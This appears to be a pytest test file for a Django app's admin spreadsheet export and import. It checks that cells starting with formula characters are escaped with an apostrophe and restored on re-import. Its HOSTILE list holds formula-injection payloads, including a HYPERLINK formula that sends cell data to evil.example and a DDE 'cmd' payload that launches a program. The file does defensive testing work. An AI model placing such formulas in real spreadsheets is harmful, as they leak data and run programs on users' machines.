"""Exported spreadsheets carry no live formula, and re-importing an export gives the original text back.

A cell starting with = + - @, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets (`=HYPERLINK(…)` leaks data, `=cmd|…` runs programs). Every exported text
cell starting so is written with a leading apostrophe; an import strips exactly that one.
"""

import csv
import io

import openpyxl
import pytest
import tablib
from django.urls import reverse
from import_export.formats.base_formats import CSV, JSON, XLSX

from actors.models import Actor
from actors.spreadsheets import ActorResource
from articles.importers.spreadsheets import ArticleResource, ExpertResource, SourceResource
from articles.models import Article, Expert, Source
from tests.factories import ActorFactory, AdminUserFactory, ArticleFactory, ExpertFactory, SourceFactory

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click here")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-5% growth",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by its author",
    "'tis the season",  # an apostrophe before anything else is left alone both ways
]
FORMATS = {"csv": CSV, "xlsx": XLSX, "json": JSON}

# resource, model, admin export URL name, the text fields given hostile values, a factory
CASES = {
    "updates": (ArticleResource, Article, "admin:articles_article_export", ["title", "standfirst"], ArticleFactory),
    "experts": (ExpertResource, Expert, "admin:articles_expert_export", ["name", "title", "bio"], ExpertFactory),
    "actors": (ActorResource, Actor, "admin:actors_actor_export", ["name", "description"], ActorFactory),
    "sources": (SourceResource, Source, "admin:articles_source_export", ["title", "publisher"], SourceFactory),
}


def hostile_rows(case):
    """One row per hostile value in every text field, and one with the text fields empty."""
    _, model, _, text_fields, factory = CASES[case]
    for value in HOSTILE:
        factory(**dict.fromkeys(text_fields, value))
    blank = [field for field in text_fields if model._meta.get_field(field).blank]
    if blank:
        factory(**dict.fromkeys(blank, ""))
    return text_fields


def cells(file_format, content):
    """Every cell of an exported file (header row included) as (value, is_formula)."""
    if file_format == "csv":
        return [(value, False) for row in csv.reader(io.StringIO(content.decode(), newline="")) for value in row]
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [(cell.value, cell.data_type == "f") for row in book.active.iter_rows() for cell in row]


@pytest.mark.parametrize("case", CASES)
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_admin_export_writes_no_live_formula(client, case, file_format):
    resource_class, _, url_name, _, _ = CASES[case]
    hostile_rows(case)
    client.force_login(AdminUserFactory())
    fields = {f"{resource_class.__name__.lower()}_{name}": "on" for name in resource_class().get_export_order()}
    index = list(FORMATS).index(file_format)

    response = client.post(reverse(url_name), {"format": str(index), "resource": "0", **fields})

    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    exported = cells(file_format, response.content)
    assert not [value for value, is_formula in exported if is_formula]
    assert not [value for value, _ in exported if isinstance(value, str) and value.startswith(FORMULA_STARTS)]
    assert "'=cmd|' /C calc'!A0" in [value for value, _ in exported]
    assert "'" not in [value for value, _ in exported]  # an empty cell stays empty


@pytest.mark.parametrize("case", CASES)
def test_reimporting_an_export_gives_the_original_values_back_in_every_format(case):
    resource_class, model, _, text_fields, _ = CASES[case]
    hostile_rows(case)
    before = sorted(model.objects.values_list(*text_fields))
    for file_format, format_class in FORMATS.items():
        exported = format_class().export_data(resource_class().export())
        model.objects.update(**dict.fromkeys(text_fields, "overwritten"))

        result = resource_class().import_data(format_class().create_dataset(exported), raise_errors=True)

        assert not result.has_validation_errors(), (file_format, [row.error for row in result.invalid_rows])
        assert sorted(model.objects.values_list(*text_fields)) == before, file_format


def test_an_import_strips_only_the_apostrophe_an_export_adds():
    imported = {
        "'=1+1": "=1+1",
        "'-5% growth": "-5% growth",
        "'@SUM(A1)": "@SUM(A1)",
        "'\t=1+1": "\t=1+1",
        "''=1+1": "'=1+1",  # only the one apostrophe an export adds
        "'tis the season": "'tis the season",
        "'": "'",
        "-3% typed by hand": "-3% typed by hand",  # unescaped: taken as it is
    }
    dataset = tablib.Dataset(headers=["url", "title"])
    for number, cell in enumerate(imported):
        dataset.append([f"https://example.org/{number}", cell])

    result = SourceResource().import_data(dataset, raise_errors=True)

    assert not result.has_validation_errors()
    titles = dict(Source.objects.values_list("url", "title"))
    assert [titles[f"https://example.org/{number}"] for number in range(len(imported))] == list(imported.values())
